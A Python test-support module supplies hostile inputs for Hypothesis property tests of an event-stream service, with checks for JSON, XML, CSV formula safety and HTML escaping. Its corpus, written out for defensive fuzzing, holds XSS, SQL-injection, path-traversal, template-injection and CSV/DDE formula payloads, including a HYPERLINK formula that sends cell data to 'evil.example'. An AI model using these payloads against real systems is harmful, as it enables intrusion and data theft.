"""Hostile input for the property tests: what a careless producer or an attacker sends.

Strategies make events the contract accepts with hostile text in every free-text
field; checks say what is wrong with an answer (None when nothing is): strict JSON,
XML that parses, CSV cells a spreadsheet cannot run, HTML that never carries our
markup back unescaped.
"""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime, timedelta
from typing import Any
from xml.etree import ElementTree

from hypothesis import strategies as st

from streams.names import SignalLevel
from streams.producer import new_event

MARKUP = "<img src=x onerror=alert(1)>"
# Each a way text has gone wrong somewhere: markup, spreadsheet formulas (also behind
# invisible characters), control characters, bidi overrides, template and format
# syntax, SQL, paths, words JSON readers treat specially, and the longest the
# contract takes.
CORPUS = (
    MARKUP,
    '"><script>alert(1)</script>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\u202eevil\u202c",
    "\u0001\u000b\u001f control",
    "line\r\nbreak",
    "{{7*7}} ${7*7} %s %n",
    "'; DROP TABLE cases; --",
    "../../etc/passwd",
    "NaN",
    "null",
    "井盖缺失 🚧",
    "\ufffe\uffff",
    "x" * 2000,
)
# Codes no catalogue, label table or ranking has ever seen.
UNKNOWN_CODES = ("earthquake", "不存在区", "unknown-dept", "G-999", MARKUP[:32])
T0 = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)

hostile_text = st.one_of(
    st.sampled_from(CORPUS + UNKNOWN_CODES),
    st.text(min_size=1, max_size=40).filter(str.strip),
)


def short(limit: int) -> st.SearchStrategy[str]:
    """Hostile text cut to a field's limit (the contract refuses longer)."""
    return hostile_text.map(lambda text: text[:limit]).filter(str.strip)


@st.composite
def hostile_case(draw: st.DrawFn, number: int) -> list[dict[str, Any]]:
    """One case's events, from report to somewhere along its way, text hostile throughout."""
    case_id = f"H{number:05d}"
    at = T0 + timedelta(minutes=number)
    report = {
        "source": draw(st.sampled_from(["inspector", "hotline", "app", "camera"])),
        "kind": draw(st.sampled_from(["event", "component"])),
        "category": draw(st.sampled_from(["0102", "0101", "9999", "0000"])),
        "lon": draw(st.floats(113.0, 114.0)),
        "lat": draw(st.floats(22.0, 23.0)),
        "grid": draw(short(32)),
        "district": draw(short(64)),
        "street": draw(short(64)),
        "address": draw(short(2000)),
        "description": draw(short(2000)),
        "by": draw(short(128)),
    }
    events = [new_event("case.reported", case_id, at, **report)]
    steps = draw(st.integers(0, 4))
    if steps >= 1:
        events.append(new_event("case.filed", case_id, at + timedelta(minutes=1)))
    if steps >= 2:
        department = draw(st.one_of(st.sampled_from(["sanitation", "gardens"]), short(64)))
        events.append(
            new_event("case.dispatched", case_id, at + timedelta(minutes=2), department=department)
        )
    if steps >= 3:
        for offset, kind in enumerate(("case.urged", "case.supervised", "case.flagged"), 3):
            events.append(
                new_event(
                    kind,
                    case_id,
                    at + timedelta(minutes=offset),
                    by=draw(short(128)),
                    note=draw(short(2000)),
                )  # fmt: skip
            )
    if steps >= 4:
        events.append(new_event("case.handled", case_id, at + timedelta(minutes=7)))
    return events


@st.composite
def hostile_emergency(draw: st.DrawFn, number: int) -> list[dict[str, Any]]:
    """An emergency with any hazard word, perhaps cleared again."""
    at = T0 + timedelta(hours=1, minutes=number)
    raised = new_event(
        "emergency.raised", None, at, hazard=draw(short(32)),
        level=draw(st.sampled_from([level.value for level in SignalLevel])),
        force=True, note=draw(short(2000)), by=draw(short(128)),
    )  # fmt: skip
    events = [raised]
    if draw(st.booleans()):
        events.append(new_event("emergency.cleared", None, at + timedelta(minutes=30),
                                note=draw(short(2000)), by=draw(short(128))))  # fmt: skip
    return events


@st.composite
def hostile_stream(draw: st.DrawFn) -> list[dict[str, Any]]:
    """A few hostile cases and emergencies, as a producer would publish them."""
    base = draw(st.integers(0, 90_000))
    events: list[dict[str, Any]] = []
    for i in range(draw(st.integers(1, 4))):
        events += draw(hostile_case(base + i))
    for i in range(draw(st.integers(0, 2))):
        events += draw(hostile_emergency(base + i))
    return events


def fixed_stream() -> list[dict[str, Any]]:
    """The hostile corpus in one deterministic stream: every text in every field once."""
    events: list[dict[str, Any]] = []
    for i, text in enumerate(CORPUS + UNKNOWN_CODES):
        at = T0 + timedelta(minutes=i)
        case_id = f"F{i:05d}"
        events += [
            new_event("case.reported", case_id, at, source="hotline", kind="event",
                      category="0102", lon=113.55, lat=22.25, grid=text[:32],
                      district=text[:64], street=text[:64], address=text,
                      description=text, by=text[:128]),
            new_event("case.filed", case_id, at + timedelta(seconds=1)),
            new_event("case.dispatched", case_id, at + timedelta(seconds=2),
                      department=text[:64]),
            new_event("case.urged", case_id, at + timedelta(seconds=3), by=text[:128],
                      note=text),
        ]  # fmt: skip
    for i, hazard in enumerate(("earthquake", MARKUP[:32], "typhoon")):
        at = T0 + timedelta(hours=2, minutes=10 * i)
        events.append(new_event("emergency.raised", None, at, hazard=hazard, level="red",
                                force=True, by="adm", note=MARKUP))  # fmt: skip
        events.append(new_event("emergency.cleared", None, at + timedelta(minutes=5), by="adm"))
    events.append(new_event("emergency.raised", None, T0 + timedelta(hours=3),
                            hazard="earthquake", level="orange", force=True, by="adm"))  # fmt: skip
    return events


def strict_json(body: str) -> str | None:
    """What makes a body other than strict JSON (NaN and Infinity are not JSON)."""

    def refuse(constant: str) -> Any:
        raise ValueError(f"{constant} is not JSON")

    try:
        json.loads(body, parse_constant=refuse)
    except ValueError as error:
        return f"not strict JSON: {error}"
    return None


def xml_problem(body: bytes) -> str | None:
    """Why an XML document does not parse, or None."""
    try:
        ElementTree.fromstring(body)
    except ElementTree.ParseError as error:
        return f"XML does not parse: {error}"
    return None


# What a spreadsheet reads as the start of a formula; invisible characters and blanks
# in front do not stop it.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff \t"


def csv_problem(body: bytes) -> str | None:
    """The first CSV cell a spreadsheet would run as a formula, or a missing BOM."""
    if not body.startswith(b"\xef\xbb\xbf"):
        return "CSV without a byte order mark (spreadsheets read it as ANSI)"
    text = body.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if _is_number(cell):
                continue
            bare = cell.lstrip(INVISIBLE)
            if cell.startswith(FORMULA_START) or bare.startswith(FORMULA_START):
                return f"CSV cell would run as a formula: {cell[:60]!r}"
    return None


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def html_problem(body: str) -> str | None:
    """Our markup came back unescaped in an HTML page."""
    if MARKUP in body:
        return "HTML carries stream text unescaped"
    return None
